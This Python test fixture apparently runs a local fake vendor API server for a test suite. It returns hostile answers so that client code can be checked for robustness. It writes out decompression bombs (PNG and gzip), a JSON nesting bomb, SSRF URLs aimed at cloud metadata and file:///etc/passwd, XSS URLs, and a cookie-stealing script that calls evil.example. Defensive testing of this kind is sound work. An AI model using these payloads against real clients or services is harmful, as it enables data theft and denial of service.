"""A hostile vendor impostor: a small aiohttp app on 127.0.0.1 that speaks both
vendors' wire formats well enough to be believed, and then lies.

The behaviour is chosen by the URL, so one impostor serves every test and many
concurrent requests: a provider pointed at ``base_url(kind)`` (``/k/<kind>``) gets
that kind's hostile answers to its API calls, and the result and upload URLs the
impostor hands out (``/r/<kind>/…``, ``/s/<kind>/…``) misbehave the same way.
:data:`SYNC_KINDS`, :data:`POLL_URL_KINDS` and :data:`DOWNLOAD_KINDS` list them.

Every request is recorded (method, path, raw headers), so a test can assert that the
API key never reached anything but the API paths. Huge bodies are generated in
chunks as they are sent, never held: the impostor itself stays small.

Runs in-process (:func:`start_impostor`) or as a process of its own
(``python -m tests.providers.impostor PORT_FILE``) for the memory test, so that its
own memory is not counted.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import io
import json
import struct
import sys
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from aiohttp import web
from PIL import Image

KEY = "sk-impostor-KEY-5f3e9a1c77d04b2b"
MiB = 1024 * 1024


# -------------------------------------------------------------------- hostile bytes


@cache
def jpeg() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (180, 90, 40)).save(buf, "JPEG")
    return buf.getvalue()


@cache
def png() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (40, 90, 180)).save(buf, "PNG")
    return buf.getvalue()


@cache
def webp() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (90, 180, 40)).save(buf, "WEBP")
    return buf.getvalue()


@cache
def gif() -> bytes:
    buf = io.BytesIO()
    Image.new("P", (16, 16)).save(buf, "GIF")
    return buf.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def png_bomb() -> bytes:
    """A valid-looking 20000x20000 RGB PNG of 5 KB: 1.2 GB of pixels if decoded."""
    rows = zlib.compress(b"\x00" * (1 + 20000 * 3) * 64, 9)
    ihdr = struct.pack(">IIBBBBB", 20000, 20000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


@cache
def gzip_member(fill: bytes) -> bytes:
    return gzip.compress(fill * (MiB // len(fill)), 9)


def gzip_bomb(total_mib: int = 512, fill: bytes = b"\x00", prefix: bytes = b"") -> bytes:
    """``total_mib`` MiB of ``fill`` (after ``prefix``) as concatenated gzip members:
    a few hundred KB on the wire (gzip allows members back to back, RFC 1952)."""
    head = gzip.compress(prefix, 9) if prefix else b""
    return head + gzip_member(fill) * total_mib


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def ailab_ok(**fields: Any) -> dict[str, Any]:
    return {
        "request_id": "req-imp",
        "log_id": "log-imp",
        "error_code": 0,
        "error_code_str": "",
        "error_msg": "",
        "error_detail": {"status_code": 200, "code": "", "code_message": "", "message": ""},
        **fields,
    }


def ailab_fail(status: int, code: str, message: str, request_id: str = "req-err") -> dict[str, Any]:
    return {
        "request_id": request_id,
        "error_code": status,
        "error_code_str": code,
        "error_msg": message,
        "error_detail": {"status_code": status, "code": code, "message": message},
    }


# --------------------------------------------------------------------------- kinds

# Answers to AILab's sync emotion-editor submit.
SYNC_KINDS = (
    "legit",
    "legit_png",
    "legit_webp",
    "legit_data_url",
    "html_200",
    "b64_text",
    "b64_html",
    "b64_script",
    "b64_gif",
    "empty_image",
    "no_image",
    "truncated_jpeg",
    "png_bomb",
    "huge_body",
    "gzip_bomb",
    "json_nesting_bomb",
    "key_in_request_id",
    "key_in_message",
    "key_urlencoded_in_message",
    "key_in_code",
    "html_500_with_key",
    "query_in_message",
    "content_length_lie",
    "disconnect",
    "slow",
    "redirect_api",
    "retry_after_huge",
    "retry_after_nan",
    "retry_after_date_far",
    "retry_after_negative",
    "retry_after_garbage",
    "huge_error_body",
    "near_cap_valid",
)

# Result URLs handed out by a succeeded AILab poll (and Perfect Corp's results.url).
POLL_URL_KINDS = (
    "legit",
    "signed_query",
    "ftp_url",
    "file_url",
    "data_url",
    "javascript_url",
    "private_10",
    "metadata_literal",
    "userinfo_url",
    "localhost_alias",
    "decimal_ip",
    "mapped_ipv6",
    "redirect_other_port",
    "redirect_chain_metadata",
    "redirect_loop",
    "redirect_https_other_host",
    "redirect_allowed_host",
    "redirect_relative",
    "redirect_no_location",
)

# What a result download (GET /r/<kind>/result) answers.
DOWNLOAD_KINDS = (
    "legit",
    "legit_png",
    "legit_webp",
    "wrong_content_type",
    "html_200",
    "text_200",
    "script_200",
    "json_200",
    "empty_200",
    "truncated_jpeg",
    "png_bomb",
    "gif",
    "huge_body",
    "gzip_bomb",
    "announced_huge",
    "content_length_lie",
    "expired_403",
    "signed_403",
    "server_500",
    "rate_limited",
    "b64_of_image",
)


@dataclass
class Seen:
    method: str
    path: str
    raw_headers: list[tuple[str, str]]

    def header(self, name: str) -> str | None:
        for key, value in self.raw_headers:
            if key.lower() == name.lower():
                return value
        return None


@dataclass
class Impostor:
    """The app's state: the port it is on, what it saw, where to send "elsewhere"."""

    host: str = "127.0.0.1"
    port: int = 0
    # Another server (another port) for "redirect to an allowed host" and the like.
    other_port: int = 0
    seen: list[Seen] = field(default_factory=list)
    other: Impostor | None = None

    @property
    def origin(self) -> str:
        return f"http://{self.host}:{self.port}"

    def base_url(self, kind: str) -> str:
        return f"{self.origin}/k/{kind}"

    def result_url(self, kind: str, name: str = "result.jpg") -> str:
        return f"{self.origin}/r/{kind}/{name}?Expires=9999&X-Amz-Signature=SIGSECRET"

    def key_seen_outside_api(self) -> list[Seen]:
        """Requests that carried the key anywhere but the API paths."""
        return [
            s
            for s in self.seen
            if not s.path.startswith("/k/") and any(KEY in value for _, value in s.raw_headers)
        ]

    # -- the poll's result URL -----------------------------------------------------

    def poll_url(self, kind: str) -> str:
        port = self.port
        urls = {
            "legit": self.result_url("legit"),
            "signed_query": self.result_url("legit", "signed.jpg"),
            "ftp_url": f"ftp://{self.host}:{port}/r/legit/result.jpg",
            "file_url": "file:///etc/passwd",
            "data_url": "data:text/html,<script>alert(1)</script>",
            "javascript_url": "javascript:alert(document.cookie)",
            "private_10": "http://10.20.30.40/r/legit/result.jpg",
            "metadata_literal": "http://169.254.169.254/latest/meta-data/iam/",
            "userinfo_url": f"http://user:pw@{self.host}:{port}/r/legit/result.jpg",
            "localhost_alias": f"http://localhost:{port}/r/legit/result.jpg",
            "decimal_ip": f"http://2130706433:{port}/r/legit/result.jpg",
            "mapped_ipv6": f"http://[::ffff:127.0.0.1]:{port}/r/legit/result.jpg",
        }
        if kind in urls:
            return urls[kind]
        return f"{self.origin}/hop/{kind}/0?X-Amz-Signature=SIGSECRET"

    # -- handlers -----------------------------------------------------------------

    def record(self, request: web.Request) -> None:
        self.seen.append(
            Seen(
                request.method,
                request.path,
                [(k.decode("latin-1"), v.decode("latin-1")) for k, v in request.raw_headers],
            )
        )

    async def api(self, request: web.Request) -> web.StreamResponse:
        self.record(request)
        kind = request.match_info["kind"]
        tail = "/" + request.match_info["tail"]
        if request.can_read_body:
            await request.read()  # the request went out whole
        if tail == "/api/portrait/effects/emotion-editor":
            return await sync_answer(self, request, kind)
        if tail == "/api/portrait/editing/ai-face-swap":
            task_ids = {"task_id_with_key": f"task-{KEY}"}
            return web.json_response(ailab_ok(task_id=task_ids.get(kind, f"task-{kind}")))
        if tail == "/api/common/query-async-task-result":
            if kind == "inline_b64_text":
                return web.json_response(
                    ailab_ok(task_status=2, data={"image": b64(b"just some text, no image")})
                )
            if kind == "inline_legit":
                return web.json_response(ailab_ok(task_status=2, data={"image": b64(jpeg())}))
            if kind == "poll_error_with_key":
                body = ailab_fail(422, "ERROR_NO_FACE_IN_FILE", f"bad key {KEY}", KEY)
                return web.json_response(body, status=422)
            if kind == "huge_poll":
                return await stream_body(request, 200 * MiB, b"A", "application/json")
            return web.json_response(ailab_ok(task_status=2, result_url=self.poll_url(kind)))
        if tail == "/api/common/query-credits":
            sign = KEY if kind == "pool_with_key" else "common"
            return web.json_response(ailab_ok(data=[{"unique_sign": sign, "balance": 5}]))
        if tail in ("/s2s/v2.0/file/ai-smile", "/s2s/v2.0/file"):
            put_url = {
                "upload_to_metadata": "http://169.254.169.254/latest/api/token",
                "upload_to_private": "http://192.168.1.20/upload",
            }.get(kind, f"{self.origin}/s/{kind}/up?X-Amz-Signature=SIGSECRET")
            return web.json_response(
                {
                    "status": 200,
                    "data": {
                        "files": [
                            {
                                "file_id": f"file-{kind}",
                                "requests": [{"method": "PUT", "url": put_url, "headers": {}}],
                            }
                        ]
                    },
                }
            )
        if tail == "/s2s/v2.0/task/ai-smile":
            if kind == "create_huge":
                return await stream_body(request, 200 * MiB, b"A", "application/json")
            if kind == "create_html":
                return web.Response(text="<html>ok</html>", content_type="text/html")
            return web.json_response({"status": 200, "data": {"task_id": f"pc-{kind}"}})
        if tail.startswith("/s2s/v2.0/task/ai-smile/"):
            return web.json_response(
                {
                    "status": 200,
                    "data": {"task_status": "success", "results": {"url": self.poll_url(kind)}},
                }
            )
        return web.json_response({"status": 404, "error": "no such path"}, status=404)

    async def upload(self, request: web.Request) -> web.StreamResponse:
        self.record(request)
        await request.read()
        return web.Response(status=200)

    async def hop(self, request: web.Request) -> web.StreamResponse:
        """Redirect chains: /hop/<kind>/<n>."""
        self.record(request)
        kind = request.match_info["kind"]
        n = int(request.match_info["n"])
        legit = self.result_url("legit")
        if kind == "redirect_other_port":
            target = f"http://127.0.0.1:{self.other_port}/r/legit/result.jpg"
        elif kind == "redirect_chain_metadata":
            target = (
                f"{self.origin}/hop/{kind}/{n + 1}"
                if n < 2
                else "http://169.254.169.254/latest/meta-data/"
            )
        elif kind == "redirect_loop":
            target = f"{self.origin}/hop/{kind}/{(n + 1) % 2}"
        elif kind == "redirect_https_other_host":
            target = f"https://localhost:{self.other_port}/r/legit/result.jpg"
        elif kind == "redirect_allowed_host":
            target = f"http://127.0.0.1:{self.other_port}/r/legit/result.jpg?sig=OTHER"
        elif kind == "redirect_relative":
            target = "/r/legit/result.jpg?again=1" if n == 0 else legit
        elif kind == "redirect_no_location":
            return web.Response(status=302)
        else:
            target = legit
        return web.Response(status=302, headers={"Location": target})

    async def result(self, request: web.Request) -> web.StreamResponse:
        self.record(request)
        return await download_answer(request, request.match_info["kind"])

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/k/{kind}/{tail:.*}", self.api)
        app.router.add_route("PUT", "/s/{kind}/{tail:.*}", self.upload)
        app.router.add_route("GET", "/hop/{kind}/{n}", self.hop)
        app.router.add_route("GET", "/r/{kind}/{name}", self.result)
        return app


# ------------------------------------------------------------------------ answers


async def stream_body(
    request: web.Request,
    total: int,
    fill: bytes,
    content_type: str,
    *,
    prefix: bytes = b"",
    status: int = 200,
    headers: dict[str, str] | None = None,
) -> web.StreamResponse:
    """``prefix`` then ``fill`` up to ``total`` bytes, chunked, generated as sent."""
    resp = web.StreamResponse(
        status=status, headers={"Content-Type": content_type, **(headers or {})}
    )
    resp.enable_chunked_encoding()
    await resp.prepare(request)
    chunk = fill * (MiB // len(fill))
    sent = 0
    with contextlib.suppress(ConnectionError, RuntimeError):
        if prefix:
            await resp.write(prefix)
            sent += len(prefix)
        while sent < total:
            piece = chunk[: total - sent]
            await resp.write(piece)
            sent += len(piece)
        await resp.write_eof()
    return resp


async def raw_bytes(
    request: web.Request, data: bytes, headers: dict[str, str], *, status: int = 200
) -> web.StreamResponse:
    """Exactly these headers and bytes (Content-Length may lie), then close."""
    resp = web.StreamResponse(status=status, headers=headers)
    await resp.prepare(request)
    with contextlib.suppress(ConnectionError, RuntimeError):
        await resp.write(data)
        assert request.transport is not None
        request.transport.close()
    return resp


@cache
def big_jpeg() -> bytes:
    """A real JPEG of ~20 MB (noise does not compress): its base64 is near the 32 MiB
    API answer cap, so a sync answer carrying it is legit but as heavy as allowed."""
    buf = io.BytesIO()
    Image.effect_noise((3600, 3000), 90).convert("RGB").save(buf, "JPEG", quality=100)
    return buf.getvalue()


@cache
def _truncated_jpeg() -> bytes:
    buf = io.BytesIO()
    Image.effect_noise((256, 256), 64).convert("RGB").save(buf, "JPEG", quality=90)
    data = buf.getvalue()
    return data[: len(data) // 2]


async def sync_answer(imp: Impostor, request: web.Request, kind: str) -> web.StreamResponse:
    image_answers: dict[str, str] = {
        "legit": b64(jpeg()),
        "legit_png": b64(png()),
        "legit_webp": b64(webp()),
        "legit_data_url": "data:image/jpeg;base64," + b64(jpeg()),
        "b64_text": b64(b"Thank you for your request. Your image is being processed."),
        "b64_html": b64(b"<!DOCTYPE html><html><body>Error</body></html>"),
        "b64_script": b64(b"<script>fetch('https://evil.example/'+document.cookie)</script>"),
        "b64_gif": b64(gif()),
        "empty_image": "",
        "truncated_jpeg": b64(_truncated_jpeg()),
        "png_bomb": b64(png_bomb()),
    }
    if kind in image_answers:
        return web.json_response(ailab_ok(data={"image": image_answers[kind]}))
    if kind == "key_in_request_id":
        return web.json_response(ailab_ok(request_id=f"rid-{KEY}", data={"image": b64(jpeg())}))
    if kind == "no_image":
        return web.json_response(ailab_ok(data={}))
    if kind == "html_200":
        return web.Response(
            text="<!DOCTYPE html><html><body><h1>Welcome</h1></body></html>",
            content_type="text/html",
        )
    if kind == "huge_body":
        prefix = json.dumps(ailab_ok()).encode()[:-1] + b', "data": {"image": "'
        return await stream_body(request, 200 * MiB, b"A", "application/json", prefix=prefix)
    if kind == "gzip_bomb":
        prefix = json.dumps(ailab_ok()).encode()[:-1] + b', "data": {"image": "'
        bomb = gzip_bomb(512, b"A", prefix)
        return web.Response(
            body=bomb, headers={"Content-Type": "application/json", "Content-Encoding": "gzip"}
        )
    if kind == "json_nesting_bomb":
        return web.Response(body=b"[" * 200_000 + b"]" * 200_000, content_type="application/json")
    if kind == "key_in_message":
        body = ailab_fail(400, "ERROR_INVALID_PARAMETER", f"API key {KEY} does not match")
        return web.json_response(body, status=400)
    if kind == "key_urlencoded_in_message":
        from urllib.parse import quote

        body = ailab_fail(400, "ERROR_INVALID_PARAMETER", f"see /keys?k={quote(KEY)} ok")
        body["error_msg"] = f"key={quote(KEY, safe='')}"
        return web.json_response(body, status=400)
    if kind == "key_in_code":
        return web.json_response(ailab_fail(400, f"BAD_{KEY}", "nope"), status=400)
    if kind == "html_500_with_key":
        return web.Response(
            status=502, text=f"<html>upstream said {KEY}</html>", content_type="text/html"
        )
    if kind == "query_in_message":
        body = ailab_fail(
            422,
            "ERROR_NO_FACE_IN_FILE",
            "see https://oss.example/x.jpg?OSSAccessKeyId=AK&Signature=SIGSECRET",
        )
        return web.json_response(body, status=422)
    if kind == "content_length_lie":
        data = json.dumps(ailab_ok(data={"image": b64(jpeg())})).encode()
        return await raw_bytes(
            request,
            data[:100],
            {"Content-Type": "application/json", "Content-Length": str(len(data))},
        )
    if kind == "disconnect":
        assert request.transport is not None
        request.transport.close()
        raise asyncio.CancelledError
    if kind == "slow":
        await asyncio.sleep(3)
        return web.json_response(ailab_ok(data={"image": b64(jpeg())}))
    if kind == "redirect_api":
        return web.Response(status=307, headers={"Location": f"http://127.0.0.1:{imp.other_port}/"})
    retry_after = {
        "retry_after_huge": "999999999",
        "retry_after_nan": "NaN",
        "retry_after_date_far": "Fri, 31 Dec 9999 23:59:59 GMT",
        "retry_after_negative": "-5",
        "retry_after_garbage": "soon\u2122 please",
    }
    if kind in retry_after:
        body = ailab_fail(429, "ERROR_RATE_LIMIT_EXCEEDED", "slow down")
        return web.json_response(body, status=429, headers={"Retry-After": retry_after[kind]})
    if kind == "near_cap_valid":
        prefix = json.dumps(ailab_ok()).encode()[:-1] + b', "data": {"image": "'
        heavy = prefix + b64(big_jpeg()).encode() + b'"}}'
        return web.Response(body=heavy, content_type="application/json")
    if kind == "huge_error_body":
        return await stream_body(request, 200 * MiB, b"E", "text/html", status=503)
    return web.json_response(ailab_fail(500, "UNKNOWN_KIND", kind), status=500)


async def download_answer(request: web.Request, kind: str) -> web.StreamResponse:
    simple: dict[str, tuple[bytes, str]] = {
        "legit": (jpeg(), "image/jpeg"),
        "legit_png": (png(), "image/png"),
        "legit_webp": (webp(), "image/webp"),
        "wrong_content_type": (jpeg(), "text/html"),
        "html_200": (b"<!DOCTYPE html><html><body>Sign in</body></html>", "image/jpeg"),
        "text_200": (b"OK", "image/jpeg"),
        "script_200": (b"<script>alert(1)</script>", "application/octet-stream"),
        "json_200": (b'{"error": "NoSuchKey"}', "application/json"),
        "empty_200": (b"", "image/jpeg"),
        "truncated_jpeg": (_truncated_jpeg(), "image/jpeg"),
        "png_bomb": (png_bomb(), "image/png"),
        "gif": (gif(), "image/gif"),
        "b64_of_image": (b64(jpeg()).encode(), "image/jpeg"),
    }
    if kind in simple:
        data, ctype = simple[kind]
        return web.Response(body=data, headers={"Content-Type": ctype})
    if kind == "huge_body":
        return await stream_body(request, 200 * MiB, b"\xff", "image/jpeg", prefix=jpeg()[:20])
    if kind == "gzip_bomb":
        return web.Response(
            body=gzip_bomb(512, b"\x00", jpeg()[:20]),
            headers={"Content-Type": "image/jpeg", "Content-Encoding": "gzip"},
        )
    if kind == "announced_huge":
        return await raw_bytes(
            request, jpeg(), {"Content-Type": "image/jpeg", "Content-Length": str(10 * 1024 * MiB)}
        )
    if kind == "content_length_lie":
        data = jpeg()
        return await raw_bytes(
            request, data[:50], {"Content-Type": "image/jpeg", "Content-Length": str(len(data))}
        )
    if kind == "expired_403":
        return web.Response(status=403, text="<Error><Code>AccessDenied</Code></Error>")
    if kind == "signed_403":
        return web.Response(
            status=403,
            text="<Error>Request https://oss.example/x.jpg?Signature=SIGSECRET expired</Error>",
        )
    if kind == "server_500":
        return web.Response(status=500, text="busy")
    if kind == "rate_limited":
        return web.Response(status=429, text="slow", headers={"Retry-After": "999999999"})
    return web.Response(status=404, text="unknown kind")


async def start_impostor(port: int = 0) -> AsyncIterator[Impostor]:
    """An impostor on 127.0.0.1 (and its "other" server on a second port)."""
    imp = Impostor()
    other = Impostor()
    runner = web.AppRunner(imp.app(), access_log=None)
    other_runner = web.AppRunner(other.app(), access_log=None)
    await runner.setup()
    await other_runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", port)
    other_site = web.TCPSite(other_runner, "127.0.0.1", 0)
    await site.start()
    await other_site.start()
    imp.port = _port_of(site)
    other.port = _port_of(other_site)
    imp.other_port = other.port
    other.other_port = imp.port
    imp.other = other
    try:
        yield imp
    finally:
        await runner.cleanup()
        await other_runner.cleanup()


def _port_of(site: web.TCPSite) -> int:
    server = site._server
    assert isinstance(server, asyncio.base_events.Server)
    return int(server.sockets[0].getsockname()[1])


async def _serve(port_file: str) -> None:
    async for imp in start_impostor():
        with open(port_file, "w") as fh:
            fh.write(f"{imp.port}\n")
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        import signal

        loop.add_signal_handler(signal.SIGTERM, stop.set)
        await stop.wait()


def main(argv: list[str]) -> None:
    """``python -m tests.providers.impostor PORT_FILE``: serve until SIGTERM."""
    asyncio.run(_serve(argv[1]))


if __name__ == "__main__":
    main(sys.argv)
